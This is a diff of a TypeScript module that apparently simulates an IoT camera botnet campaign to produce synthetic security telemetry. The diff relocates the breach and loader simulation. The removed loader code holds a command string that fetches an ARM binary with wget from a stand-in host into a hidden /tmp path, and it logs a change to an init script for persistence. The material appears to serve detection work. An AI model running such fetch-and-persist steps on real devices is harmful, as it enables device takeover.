@@ -1,40 +1,17 @@
 import { MINUTE_MS, SECOND_MS, type EpochMs } from '@/lib/domain/time'
-import { aFlow, aLogLine, anEvent, aTry, endsOf, flowUidOf, REFUSED, type Activity, type Flow } from './activity'
+import { aFlow, anEvent, aTry, REFUSED, type Activity, type Flow } from './activity'
 import { chanceOf, wholeOf } from './chance'
 import type { SampleDevice } from './fleet'
+import { breachesOf, GUESSER, type Breach } from './breaches'
+import { loadOf } from './loader'
 import { clientPortOf } from './ordinary-traffic'
-import { deviceOf, devicesOf, hoursBefore, type Story } from './story'
+import { devicesOf, hoursBefore, type Story } from './story'
 
 /** The other side, in the documentation ranges of RFC 5737. */
-const GUESSER = '192.0.2.88'
-const LOADER = '192.0.2.130'
 export const CONTROLLER = '192.0.2.201'
 const VICTIM = '198.51.100.200'
 export const CONTROL_PORT = 5_034
 export const BACK_DOOR_PORT = 48_101
-
-/** A camera that was broken into: when, from where, and whether it was told to flood somebody. */
-export type Breach = { device: SampleDevice; at: EpochMs; by: string; floods: boolean }
-
-/** One camera falls to the internet at dawn; from it the others fall over the morning. */
-const FALLS = [
-  { number: 7, minutes: 0, isFlooding: true },
-  { number: 3, minutes: 52, isFlooding: true },
-  { number: 11, minutes: 97, isFlooding: true },
-  { number: 18, minutes: 171, isFlooding: false },
-  { number: 22, minutes: 236, isFlooding: false },
-] as const
-
-/** Who falls, in order. */
-export const breachesOf = (story: Story): Breach[] => {
-  const first = deviceOf(story, 'ho-d420', 'meridian', FALLS[0].number)
-  return FALLS.map(({ number, minutes, isFlooding }) => ({
-    device: deviceOf(story, 'ho-d420', 'meridian', number),
-    at: hoursBefore(story, 9) + minutes * MINUTE_MS,
-    by: number === first.number ? GUESSER : first.ip,
-    floods: isFlooding,
-  }))
-}
 
 /** Somebody looks for Telnet all over the network: every camera of the quay that faces the internet is tried. */
 const scanOf = (story: Story): Activity[] =>
@@ -94,70 +71,6 @@ const heldGuesses = (story: Story): Activity[] => {
     })
 }
 
-const PROGRAM = '/tmp/.qsd/dvrhelp'
-
-/** The program is fetched from a bare address, kept and started, and listens. */
-const loadOf = ({ device, at }: Breach): Activity[] => {
-  const { site, ip, id } = device
-  const fetchAt = at + 70 * SECOND_MS
-  const flow: Flow = {
-    site,
-    at: fetchAt,
-    from: ip,
-    to: LOADER,
-    port: 80,
-    fromPort: clientPortOf(id, 'load'),
-    service: 'http',
-    lastingMs: 2_600,
-    sent: 180,
-    received: 118_400,
-  }
-  const ends = endsOf(flow)
-  const commandLine = `wget http://${LOADER}/bins/q.arm7 -O ${PROGRAM}`
-  return [
-    aFlow(flow),
-    aLogLine(site, 'http', fetchAt + 50, {
-      ...ends,
-      method: 'GET',
-      host: LOADER,
-      uri: '/bins/q.arm7',
-      user_agent: 'Wget',
-      status_code: 200,
-      request_body_len: 0,
-      response_body_len: 118_144,
-      resp_mime_types: ['application/x-executable'],
-    }),
-    aLogLine(site, 'files', fetchAt + 90, {
-      lastingMs: 2_100,
-      ...ends,
-      uid: flowUidOf(flow),
-      source: 'HTTP',
-      is_orig: false,
-      mime_type: 'application/x-executable',
-      filename: 'q.arm7',
-      duration: 2.1,
-      seen_bytes: 118_144,
-    }),
-    anEvent(device, fetchAt, {
-      kind: 'process',
-      action: 'started',
-      name: 'wget',
-      path: '/usr/bin/wget',
-      user: 'root',
-      commandLine,
-    }),
-    anEvent(device, fetchAt + 9_000, {
-      kind: 'process',
-      action: 'started',
-      name: 'dvrhelp',
-      path: PROGRAM,
-      user: 'root',
-      commandLine: PROGRAM,
-    }),
-    anEvent(device, fetchAt + 12_000, { kind: 'file', action: 'modified', path: '/etc/init.d/rcS' }),
-  ]
-}
-
 /** It looks for others: the neighbours on its network, and strangers. */
 const searchOf = ({ device, at }: Breach): Activity[] => {
   const { site, ip, id } = device
@@ -204,9 +117,6 @@ export const campaignOf = (story: Story): Activity[] => {
   ])
   return [...scanOf(story), ...heldGuesses(story), ...taken].sort((a, b) => a.at - b.at)
 }
-
-/** When a camera begins to ask for orders. */
-export const controlledSince = ({ at }: Breach): EpochMs => at + 3 * MINUTE_MS
 
 /** The session of one question for orders. */
 export const beaconOf = ({ device }: Breach, at: EpochMs, index: number): Activity =>
